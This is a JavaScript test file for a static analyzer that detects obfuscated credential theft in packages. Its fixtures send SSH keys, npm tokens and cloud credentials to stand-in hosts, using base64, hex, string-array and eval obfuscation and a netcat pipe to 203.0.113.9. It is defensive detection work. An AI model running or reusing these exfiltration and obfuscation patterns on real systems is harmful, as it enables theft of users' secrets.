import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

// Each case sends ~/.ssh/id_rsa to a destination hidden by one folding technique;
// the folded destination (or the decoded module/function name) proves the folding worked.
const header = `const fs = require('fs'); const os = require('os'); const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n`;

async function destinationOf(code: string): Promise<string | undefined> {
  const facts = await analyze({ "index.js": header + code });
  return facts.flows[0]?.sink.destination;
}

describe("constant folding of destinations", () => {
  it("folds concatenation and template literals", async () => {
    expect(await destinationOf("const h = 'ex' + 'ample.invalid'; fetch(`https://${h}/k`, { method: 'POST', body: key });")).toBe(
      "https://example.invalid/k",
    );
  });

  it("folds split/reverse/join", async () => {
    expect(await destinationOf("fetch('dilavni.elpmaxe//:sptth'.split('').reverse().join(''), { body: key });")).toBe("https://example.invalid");
  });

  it("folds String.fromCharCode", async () => {
    const codes = [...Buffer.from("https://cc.example.invalid")].join(",");
    expect(await destinationOf(`fetch(String.fromCharCode(${codes}), { body: key });`)).toBe("https://cc.example.invalid");
  });

  it("folds Buffer.from(…, 'base64').toString() and atob", async () => {
    const b64 = Buffer.from("https://b64.example.invalid/x").toString("base64");
    expect(await destinationOf(`fetch(Buffer.from('${b64}', 'base64').toString(), { body: key });`)).toBe("https://b64.example.invalid/x");
    expect(await destinationOf(`fetch(atob('${b64}'), { body: key });`)).toBe("https://b64.example.invalid/x");
  });

  it("folds hex buffers", async () => {
    const hex = Buffer.from("https://hex.example.invalid").toString("hex");
    expect(await destinationOf(`fetch(Buffer.from('${hex}', 'hex').toString('utf8'), { body: key });`)).toBe("https://hex.example.invalid");
  });

  it("folds a string-array obfuscator helper with an index offset", async () => {
    const code = `
const _0x4a1f = ['POST', 'https://sa.example.invalid/u', 'unused'];
function _0xget(i) { i = i - 0x10; return _0x4a1f[i]; }
fetch(_0xget(0x11), { method: _0xget(0x10), body: key });`;
    expect(await destinationOf(code)).toBe("https://sa.example.invalid/u");
    const facts = await analyze({ "index.js": header + code });
    expect(facts.obfuscations.map((o) => [o.technique, o.executed])).toEqual([["string-array", false]]);
  });

  it("folds a rotated string array (push/shift rotation loop)", async () => {
    // Rotated once at start-up: the helper then returns the intended entries.
    const code = `
const _0xa = ['https://rot.example.invalid', 'POST'];
(function (arr, target) { while (true) { const check = arr[0].length; if (check === target) break; else arr.push(arr.shift()); } })(_0xa, 4);
fetch(_0xa[1], { method: _0xa[0], body: key });`;
    expect(await destinationOf(code)).toBe("https://rot.example.invalid");
  });

  it("keeps unknown parts as *", async () => {
    expect(await destinationOf("fetch('https://' + process.argv[2] + '/up', { body: key });")).toBe("https://*/up");
  });

  it("folds the Host header of a domain-fronted request", async () => {
    const code = "require('https').request({ hostname: 'cdn.example.com', path: '/a', headers: { Host: 'real.example.invalid' } }).end(key);";
    expect(await destinationOf(code)).toBe("https://real.example.invalid/a");
  });

  it("folds options objects and new URL()", async () => {
    expect(await destinationOf("require('http').request({ protocol: 'http:', hostname: 'o.example.invalid', port: 8080, path: '/p' }).end(key);")).toBe(
      "http://o.example.invalid:8080/p",
    );
    expect(await destinationOf("fetch(new URL('/v1', 'https://u.example.invalid'), { body: key });")).toBe("https://u.example.invalid/v1");
  });
});

describe("folding names of modules and globals", () => {
  it("resolves require('child' + '_process') and reports the computed name", async () => {
    const facts = await analyze({ "index.js": "require('child' + '_process').exec('cat ~/.ssh/id_rsa | nc 203.0.113.9 4444');" });
    expect(flowSummary(facts)).toEqual(["ssh-key -> socket 203.0.113.9 @index.js:1 (import)"]);
    expect(facts.obfuscations.map((o) => o.technique)).toContain("dynamic-import");
  });

  it("resolves global['ev' + 'al'] to eval and runs the decoded code", async () => {
    const payload = Buffer.from("require('https').get('https://g.example.invalid/?k=' + process.env.NPM_TOKEN)").toString("base64");
    const facts = await analyze({ "index.js": `global['ev' + 'al'](Buffer.from('${payload}', 'base64').toString());` });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://g.example.invalid/?k=* @index.js:1 (import)"]);
  });
});

describe("credential paths", () => {
  it.each([
    ["path.join(os.homedir(), '.ssh', 'id_ed25519')", "ssh-key", "~/.ssh/id_ed25519"],
    ["`${process.env.HOME}/.npmrc`", "registry-token", "~/.npmrc"],
    ["path.resolve(process.env.USERPROFILE, '.aws/credentials')", "cloud-credentials", "~/.aws/credentials"],
    ["'~/.git-credentials'", "git-credentials", "~/.git-credentials"],
    ["'/etc/shadow'", "system-secrets", "/etc/shadow"],
    ["path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb')", "browser-store", "~/AppData/Roaming/discord/Local Storage/leveldb"],
  ])("classifies %s", async (expression, kind, detail) => {
    const facts = await analyze({ "index.js": `const fs = require('fs'), os = require('os'), path = require('path');\nfs.readFileSync(${expression});` });
    expect(facts.sources.map((s) => [s.kind, s.detail])).toEqual([[kind, detail]]);
  });

  it("does not treat files inside the package as the user's credentials", async () => {
    const facts = await analyze({ "index.js": "require('fs').readFileSync(require('path').join(__dirname, '.npmrc'));" });
    expect(facts.sources).toEqual([]);
  });

  it("treats listing ~/.ssh as an ssh-key source", async () => {
    const facts = await analyze({ "index.js": "const fs = require('fs'); fs.readdirSync(require('os').homedir() + '/.ssh');" });
    expect(facts.sources.map((s) => s.kind)).toEqual(["ssh-key"]);
  });
});

describe("indicators", () => {
  it("collects URLs, hosts and IPs from literals and folded strings, not dotted identifiers", async () => {
    const facts = await analyze({
      "index.js": "const a = 'https://x.example.com/p'; const b = 'evil.cf'; const c = '203.0.113.5'; const d = 'module.exports'; const e = 'index.js'; const f = 'drop' + '.ml';",
    });
    expect(facts.indicators.map((i) => i.value).sort()).toEqual(["203.0.113.5", "drop.ml", "evil.cf", "https://x.example.com/p"]);
  });

  it("does not repeat a literal's host where the literal is only re-used", async () => {
    const facts = await analyze({ "index.js": "const M = 'https://registry.npmjs.cf/';\nconst line = `registry=${M}`;" });
    expect(facts.indicators.map((i) => i.location.line)).toEqual([1]);
  });
});
